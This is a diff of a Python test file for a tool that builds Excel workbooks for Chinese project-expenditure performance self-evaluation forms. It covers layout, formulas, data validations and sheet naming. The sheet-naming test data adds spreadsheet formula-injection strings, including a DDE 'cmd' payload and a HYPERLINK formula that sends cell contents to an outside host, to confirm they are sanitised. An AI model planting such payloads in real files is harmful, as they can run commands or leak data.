@@ -11,33 +11,33 @@ import pytest
 from xltools.department.layout import DEPARTMENT_SHEETS
 
 from xltools.master import layout as L
-from xltools.master import formulas as F
+from xltools.project import formulas as F
+from xltools.project import layout as P
 from xltools.cli import main
-from xltools.master.build import MasterSpec, build_workbook, forms_from, project_sheets
+from xltools.master.build import MasterSpec, build_master, forms_from
 from xltools.profiles import load_profile
 
-from master_fixtures import SUBMISSIONS
+from master_fixtures import SUBMISSIONS, project_sheets
 
 PROFILE = load_profile("national")
 UNITS = ["局机关", "数据资源中心", "政务服务中心"]
 
 
+def _built(path, spec: MasterSpec, profile=PROFILE):
+    build_master(path, spec, profile)
+    return openpyxl.load_workbook(path)
+
+
 @pytest.fixture(scope="module")
 def master(tmp_path_factory):
-    path = tmp_path_factory.mktemp("layout") / "master.xlsx"
-    wb = build_workbook(MasterSpec(department="某区行政审批服务局", year=2022, units=UNITS,
-                                   forms=[None, None]), PROFILE)
-    wb.save(path)
-    return openpyxl.load_workbook(path)
+    return _built(tmp_path_factory.mktemp("layout") / "master.xlsx",
+                  MasterSpec(department="某区行政审批服务局", year=2022, units=UNITS, forms=[None, None]))
 
 
 @pytest.fixture(scope="module")
 def unit_book(tmp_path_factory):
-    path = tmp_path_factory.mktemp("layout") / "unit.xlsx"
-    wb = build_workbook(MasterSpec(department="某区行政审批服务局", year=2022,
-                                   for_unit="数据资源中心"), PROFILE)
-    wb.save(path)
-    return openpyxl.load_workbook(path)
+    return _built(tmp_path_factory.mktemp("layout") / "unit.xlsx",
+                  MasterSpec(department="某区行政审批服务局", year=2022, for_unit="数据资源中心"))
 
 
 def test_sheets_in_order(master, unit_book):
@@ -46,12 +46,13 @@ def test_sheets_in_order(master, unit_book):
     assert unit_book.sheetnames == [L.INSTRUCTIONS_SHEET, L.BASE_SHEET, L.SUMMARY_SHEET, "项目1",
                                     L.CHECKS_SHEET, L.LISTS_SHEET]
     assert master[L.LISTS_SHEET].sheet_state == "hidden"
-    assert unit_book["项目1"][L.ProjectLayout().unit_cell].value == "数据资源中心"
+    assert master[L.CONF_SHEET].sheet_state == "hidden"  # never printed with the workbook
+    assert unit_book["项目1"][P.ProjectLayout().unit_cell].value == "数据资源中心"
 
 
-# cell                 text (the official labels the reader finds)
+# cell                 text (the official labels the reader finds; A1 follows 基础信息)
 LABELS = [
-    ("A1",  "2022年度项目支出绩效自评表"),
+    ("A1",  "=IF(ISNUMBER('基础信息'!$B$4),'基础信息'!$B$4&\"年度\",\"    年度\")&\"项目支出绩效自评表\""),
     ("A2",  "项目名称"),
     ("A3",  "主管部门"),
     ("E3",  "实施单位"),
@@ -63,6 +64,7 @@ LABELS = [
     ("A11", "绩效指标"), ("B11", "一级指标"), ("C11", "二级指标"), ("D11", "三级指标"),
     ("E11", "年度指标值"), ("F11", "实际完成值"), ("G11", "分值"), ("H11", "得分"),
     ("I11", "偏差原因分析及改进措施"), ("J11", "规则得分"), ("K11", "规则说明"),
+    ("J4",  "计算执行率"), ("K4", "规则得分"), ("K6", "—"),
     ("A27", "总分"), ("A28", "评价等次"),
     ("B3",  "某区行政审批服务局"), ("G5", 10),
 ]
@@ -74,10 +76,10 @@ def test_project_sheet_labels(master, cell, text):
 
 
 def test_layout_found_again(master):
-    found = L.ProjectLayout.find(lambda r, c: master["项目1"].cell(r, c).value)
-    assert found == L.ProjectLayout(L.DEFAULT_INDICATOR_ROWS)
+    found = P.ProjectLayout.find(lambda r, c: master["项目1"].cell(r, c).value)
+    assert found == P.ProjectLayout(P.DEFAULT_INDICATOR_ROWS)
     assert (found.total_row, found.grade_row) == (27, 28)
-    assert L.ProjectLayout.find(lambda r, c: master[L.BASE_SHEET].cell(r, c).value) is None
+    assert P.ProjectLayout.find(lambda r, c: master[L.BASE_SHEET].cell(r, c).value) is None
 
 
 # cell   formula (the profile's rules written out)
@@ -89,6 +91,15 @@ FORMULAS = [
     ("H27", '=IF(COUNT(I5,H12:H26)=0,"",SUM(I5,H12:H26))'),
     ("G28", '=IF(NOT(ISNUMBER(H27)),"",IF(H27>=90-0.000000001,"优",IF(H27>=80-0.000000001,"良",'
             'IF(H27>=60-0.000000001,"中","差"))))'),
+    # the rule's figures beside the form (J:K)
+    ("J5",  '=IF(AND(ISNUMBER(E5),ISNUMBER(F5)),IF(E5>0,F5/E5,""),"")'),
+    ("K5",  '=IF(AND(ISNUMBER(G5),ISNUMBER(J5)),G5*MIN(MAX(J5,0),1),"")'),
+    ("K27", '=IF(COUNT(I5,H12:H26)=0,"",SUM(I5,H12:H26))'),
+    ("J27", '=IF(COUNT(K5,J12:J26,H12:H26)=0,"",N(K5)+SUM(J12:J26)+SUMIF(J12:J26,"",H12:H26))'),
+    ("J28", '=IF(NOT(ISNUMBER(J27)),"",IF(J27>=90-0.000000001,"优",IF(J27>=80-0.000000001,"良",'
+            'IF(J27>=60-0.000000001,"中","差"))))'),
+    ("A30", '="填表人："&\'基础信息\'!$B$5&"        填报日期：                联系电话："&\'基础信息\'!$B$6'
+            '&"        单位负责人签字："'),
 ]
 
 
@@ -132,12 +143,12 @@ def test_sheet_protected_without_password(master, sheet):
 
 # sqref                 type       formula1                                   error style
 VALIDATIONS = [
-    ("B12:B26",          "list",    L.NAME_LEVEL1,                             "stop"),
+    ("B12:B26",          "list",    P.NAME_LEVEL1,                             "stop"),
     ("C12:C26",          "list",    F.level2_list("B12"),                      "stop"),
     ("G5 G12:G26",       "decimal", "0",                                       "stop"),
     ("H12:H26",          "custom",  "AND(ISNUMBER(H12),H12>=0,OR(NOT(ISNUMBER(G12)),H12<=G12))", "stop"),
     ("D5:F8",            "decimal", "0",                                       "stop"),
-    ("F3",               "list",    L.NAME_UNITS,                              "warning"),
+    ("F3",               "list",    P.NAME_UNITS,                              "warning"),
 ]
 
 
@@ -145,7 +156,7 @@ VALIDATIONS = [
 def test_validations(master, sqref, kind, formula1, style):
     dvs = {str(dv.sqref): dv for dv in master["项目1"].data_validations.dataValidation}
     dv = dvs[sqref]
-    assert (dv.type, dv.formula1, dv.errorStyle) == (kind, formula1, style)
+    assert (dv.type, dv.formula1, dv.errorStyle or "stop") == (kind, formula1, style)  # stop: the OOXML default
     assert dv.showErrorMessage and dv.showInputMessage and dv.allow_blank
     assert dv.error and dv.prompt and dv.errorTitle  # Chinese messages
     assert any("\u4e00" <= ch <= "\u9fff" for ch in dv.errorTitle + dv.error + dv.prompt)
@@ -157,9 +168,9 @@ def test_level2_formula_reads_lists_sheet(master):
     assert [lists.cell(1, c).value for c in range(2, 6)] == ["产出指标", "效益指标", "满意度指标", "（全部）"]
     assert [lists.cell(r, 2).value for r in range(2, 6)] == ["数量指标", "质量指标", "时效指标", "成本指标"]
     names = {n: master.defined_names[n].attr_text for n in master.defined_names}
-    assert names[L.NAME_LEVEL1] == "'lists'!$A$2:$A$4"
-    assert names[L.NAME_LEVEL2_HEAD] == "'lists'!$B$1:$E$1"
-    assert names[L.NAME_UNITS] == "OFFSET('基础信息'!$B$10,0,0,MAX(1,COUNTA('基础信息'!$B$10:$B$59)),1)"
+    assert names[P.NAME_LEVEL1] == "'lists'!$A$2:$A$4"
+    assert names[P.NAME_LEVEL2_HEAD] == "'lists'!$B$1:$E$1"
+    assert names[P.NAME_UNITS] == "OFFSET('基础信息'!$B$10,0,0,MAX(1,COUNTA('基础信息'!$B$10:$B$59)),1)"
     assert all(n.isascii() for n in names)
 
 
@@ -186,10 +197,10 @@ def test_print_setup(master):
     assert ws.page_setup.orientation == "landscape"
     assert int(ws.page_setup.paperSize) == 9  # A4
     assert ws.sheet_properties.pageSetUpPr.fitToPage
-    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
+    assert (ws.page_setup.fitToWidth or 1, ws.page_setup.fitToHeight or 1) == (1, 1)  # one page (1: the OOXML default)
     assert ws.print_title_rows == "$1:$3"
     assert str(ws.print_area) == "'项目1'!$A$1:$I$30"
-    assert ws["A1"].font.name == "宋体"
+    assert (ws["A1"].font.name, ws["A2"].font.name, ws["D12"].font.name) == ("黑体", "宋体", "宋体")
     assert ws.merged_cells.ranges and "A1:I1" in {str(r) for r in ws.merged_cells.ranges}
     assert ws["D12"].border.left.style == "thin"
     summary = master[L.SUMMARY_SHEET]
@@ -210,7 +221,7 @@ def test_conf_sheet_shape(master):
 def test_checks_sheet_columns(master):
     ws = master[L.CHECKS_SHEET]
     assert [ws.cell(L.CHECKS_HEADER_ROW, c).value for c in range(1, 9)] == \
-        ["代码", "严重程度", "文件", "工作表", "单元格", "字段", "值", "说明"]
+        ["说明", "严重程度", "文件", "工作表", "单元格", "字段", "值", "代码"]
 
 
 def test_base_sheet_units(master):
@@ -220,14 +231,14 @@ def test_base_sheet_units(master):
     assert [ws.cell(L.BASE_UNITS_FIRST_ROW + k, L.BASE_UNITS_COL).value for k in range(4)] == UNITS + [None]
 
 
-def test_more_indicators_than_default_rows():
+def test_more_indicators_than_default_rows(tmp_path):
     forms, _ = forms_from([SUBMISSIONS / "局机关.xlsx"])
     many = forms[0]
     many.indicators = many.indicators * 3
-    wb = build_workbook(MasterSpec(forms=[many]), PROFILE)
+    wb = _built(tmp_path / "many.xlsx", MasterSpec(forms=[many]))
     (ws, lay), = project_sheets(wb)
-    assert lay.indicator_rows == len(many.indicators) > L.DEFAULT_INDICATOR_ROWS
-    assert ws[lay.total_weight_cell].value == F.total("G5", lay.column_range(L.COL_WEIGHT))
+    assert lay.indicator_rows == len(many.indicators) > P.DEFAULT_INDICATOR_ROWS
+    assert ws[lay.total_weight_cell].value == F.total("G5", lay.column_range(P.COL_WEIGHT))
 
 
 # ---------------------------------------------------------------- the command
@@ -275,16 +286,15 @@ def test_new_from_folder_and_for_unit(tmp_path, capsys):
     assert L.CONF_SHEET not in wb.sheetnames
     with zipfile.ZipFile(unit) as z:
         assert "xl/vbaProject.bin" not in z.namelist()
-    assert [ws[L.ProjectLayout().unit_cell].value for ws, _ in project_sheets(wb)] == ["数据资源中心"] * 2
+    assert [ws[P.ProjectLayout().unit_cell].value for ws, _ in project_sheets(wb)] == ["数据资源中心"] * 2
 
 
-# value                                   column width   lines it needs
+# value                                   column width   lines it needs (one CJK rule: 2 columns)
 TEXT_LINES = [
     (None,                                  22,            1),
-    ("=SUM(A1:A3)",                         22,            1),   # formulas: the program sizes them
     ("1G",                                  14,            1),
-    ("市政务外网链路带宽",                   22,            1),   # 9 CJK ≈ 15.75 of 21
-    ("市政务外网县市区备份线路租赁数量",     22,            2),   # 16 CJK = 28 of 21
+    ("市政务外网链路带宽",                   22,            1),   # 9 CJK = 18 of 21
+    ("市政务外网县市区备份线路租赁数量",     22,            2),   # 16 CJK = 32 of 21
     ("政务外网线路272（400家内包干）",       14,            3),
     ("第一行\n第二行",                       30,            2),
 ]
@@ -292,7 +302,7 @@ TEXT_LINES = [
 
 @pytest.mark.parametrize("value,width,lines", TEXT_LINES)
 def test_text_lines(value, width, lines):
-    from xltools.master.build import text_lines
+    from xltools.xlsx.text import text_lines
 
     assert text_lines(value, width) == lines
 
@@ -316,15 +326,19 @@ SHEET_NAMES = [
      "株洲市信息资源共享交换平台+“四级联动”信创工程项目（二期）运"),  # Excel's 31-character limit
     ("项目1",                                        "项目1(2)"),  # taken by the blank sheet
     ("history",                                      "history(2)"),  # reserved by Excel
+    # clerk text that looks like a formula: the sheet name (which our formulas quote) never does
+    ("=cmd|' /C calc'!A0",                           "cmd｜’ _C calc’！A0"),
+    ('=HYPERLINK("http://x.cn/?"&A1,"点我")',        "HYPERLINK（”http___x.cn__”＆A1，”点我”）"[:31]),
+    ("\t=2+2",                                       "2+2"),
+    ("@SUM(1)",                                      "SUM（1）"),
 ]
 
 
 @pytest.mark.parametrize("name,sheet", SHEET_NAMES)
 def test_sheet_names_from_project_names(name, sheet):
-    from xltools.master.build import _unique_sheet_name
+    from xltools.master.build import project_sheet_name
 
-    wb = build_workbook(MasterSpec(), PROFILE)
-    assert _unique_sheet_name(wb, name) == sheet
+    assert project_sheet_name(name, {"项目1", "history", L.BASE_SHEET}) == sheet
     assert len(sheet) <= 31
 
 
@@ -350,6 +364,7 @@ def test_interpreter_option_fills_conf(tmp_path):
     out = tmp_path / "m.xlsx"
     assert main(["new", str(out), "--interpreter", r"%LOCALAPPDATA%\Programs\Python\Python312\pythonw.exe"]) == 0
     ws = openpyxl.load_workbook(out)[L.CONF_SHEET]
+    assert ws.sheet_state == "hidden"
     assert (ws["A1"].value, ws["B1"].value) == ("Interpreter_Win", r"%LOCALAPPDATA%\Programs\Python\Python312\pythonw.exe")
 
 
@@ -364,7 +379,7 @@ def test_rules_come_from_the_profile(tmp_path):
         '[grades]\n[[grades.bands]]\ngrade = "好"\nmin = 85\n'
         '[[grades.bands]]\ngrade = "较好"\nmin = 70\n[[grades.bands]]\ngrade = "一般"\nmin = 0\n',
         encoding="utf-8")
-    wb = build_workbook(MasterSpec(), load_profile(str(toml)))
+    wb = _built(tmp_path / "local.xlsx", MasterSpec(), load_profile(str(toml)))
     (ws, lay), = project_sheets(wb)
     assert ws[lay.budget_weight_cell].value == 20
     assert ws[lay.budget_score_cell].value == '=IF(AND(ISNUMBER(G5),ISNUMBER(H5)),G5*MIN(MAX(H5,0),0.95),"")'
